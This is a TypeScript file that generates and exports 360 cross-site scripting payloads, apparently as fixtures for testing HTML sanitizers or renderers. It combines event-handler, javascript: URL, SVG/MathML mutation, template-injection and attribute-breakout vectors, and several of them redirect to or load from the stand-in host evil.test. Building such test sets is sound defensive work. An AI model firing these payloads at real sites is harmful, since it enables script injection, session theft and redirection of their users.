const scripts = ['ran(1)', "fetch('/ran')", "location='//evil.test/'"];

/** Markup that runs a script, or asks another server for something, wherever it is taken for markup. */
const markup = (script: string): string[] => [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg/onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<object data="data:text/html,<script>${script}</script>"></object>`,
  `<embed src="//evil.test/x.swf">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import url(//evil.test/x.css);*{background:url(//evil.test/y)}</style>`,
  `<base href=//evil.test/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<form action=//evil.test/><input name=x><button>go</button></form>`,
  `<a href="javascript:${script}">x</a>`,
  `<video><source onerror=${script}></video>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<body onpageshow=${script}>`,
  `<template><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<form id=location><input name=href></form><img name=getElementById>`,
  `<portal src=//evil.test></portal><picture><source srcset=//evil.test/z><img></picture>`,
  `[x](javascript:${script}) ![x](//evil.test/md.png)`,
  `\u001b]8;;javascript:${script}\u0007link\u001b]8;;\u0007\u001b[31m<img src=x onerror=${script}>`,
  `{{constructor.constructor('${script}')()}}\${${script}}`,
  `" onmouseover=${script} style="background:url(//evil.test/q)" x="`,
  `'-${script}-'`,
  `\u202e<img src=x onerror=${script}>\u202c\u200b\u0000`,
];

/** What breaks out of an attribute, a comment, a text area or a script first. */
const breaks = ['', '">', "'>", '--></title></textarea></style></script>'];

/** 360 texts of an attacker's. */
export const payloads: readonly string[] = breaks.flatMap((head) =>
  scripts.flatMap((script) => markup(script).map((text) => head + text)),
);
